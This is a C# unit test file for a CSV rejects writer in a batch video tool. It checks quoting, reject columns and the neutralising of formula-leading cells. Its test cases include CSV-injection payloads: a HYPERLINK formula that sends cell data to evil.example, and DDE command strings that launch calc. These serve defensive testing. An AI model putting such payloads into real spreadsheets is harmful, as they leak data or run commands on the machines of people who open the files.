using BatchVideo.Campaigns;
using BatchVideo.Reports;
using BatchVideo.Sources;
using BatchVideo.Tests.Support;

namespace BatchVideo.Tests.Reports;

[TestFixture]
public sealed class RejectsFileTests
{
    private static RowProblem Problem(long line, string reason) => new(RowOutcome.Rejected, line, null, null, reason);

    [Test]
    public void No_row_means_no_file()
    {
        using var folder = new TempFolder();
        var path = folder.File("rejects.csv");

        using (var rejects = new RejectsFile(path, ["id", "name"]))
        {
            Assert.That(rejects.Path, Is.Null);
        }

        Assert.That(File.Exists(path), Is.False);
    }

    [Test]
    public void Rows_keep_their_values_and_gain_line_and_reason()
    {
        using var folder = new TempFolder();
        var path = folder.File("rejects.csv");

        using (var rejects = new RejectsFile(path, ["id", "name", "note"]))
        {
            rejects.Add(new SourceRow(4, ["C-1", "Ann, \"the\" first", "=SUM(A1)"], null, null), Problem(4, "duplicate key 'C-1'"));
            rejects.Add(new SourceRow(7, ["C-2"], "has 1 fields, the header has 3", null), Problem(7, "has 1 fields, the header has 3"));
            rejects.Add(new SourceRow(9, ["C-3", "Bo", "a", "b"], "has 4 fields, the header has 3", null), Problem(9, "has 4 fields"));
        }

        Assert.That(File.ReadAllText(path), Is.EqualTo(
            "id,name,note,reject_line,reject_reason\n"
            + "C-1,\"Ann, \"\"the\"\" first\",'=SUM(A1),4,duplicate key 'C-1'\n"
            + "C-2,,,7,\"has 1 fields, the header has 3\"\n"
            + "C-3,Bo,\"a,b\",9,has 4 fields\n"));
    }

    [Test]
    public void A_rejects_file_rejected_again_keeps_one_pair_of_reject_columns()
    {
        using var folder = new TempFolder();
        var path = folder.File("again.csv");

        using (var rejects = new RejectsFile(path, ["id", "reject_line", "reject_reason", "video_id"]))
        {
            rejects.Add(new SourceRow(2, ["C-1", "8", "old reason", ""], null, null), Problem(2, "new reason"));
        }

        Assert.That(File.ReadAllLines(path), Is.EqualTo(new[] { "id,reject_line,reject_reason,video_id", "C-1,2,new reason," }));
    }

    [TestCase("=HYPERLINK(\"http://evil.example/?d=\"&E2,\"Click\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&E2,\"\"Click\"\")\"")]
    [TestCase("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [TestCase("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [TestCase("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0")]
    [TestCase("\t=1+1", "'\t=1+1")]
    [TestCase("+49 30 1234567", "'+49 30 1234567")]
    [TestCase("-Novak", "'-Novak")]
    [TestCase("-", "-")]
    [TestCase("-5", "-5")]
    [TestCase("+3.5", "+3.5")]
    [TestCase("Ann", "Ann")]
    [TestCase("a=b", "a=b")]
    public void Formula_leading_cells_are_neutralised_as_OWASP_recommends(string cell, string written)
    {
        using var folder = new TempFolder();
        var path = folder.File("rejects.csv");

        using (var rejects = new RejectsFile(path, ["id", "company"]))
        {
            rejects.Add(new SourceRow(2, ["C-1", cell], null, null), Problem(2, "why"));
        }

        Assert.That(File.ReadAllText(path), Is.EqualTo($"id,company,reject_line,reject_reason\nC-1,{written},2,why\n"));
    }
}
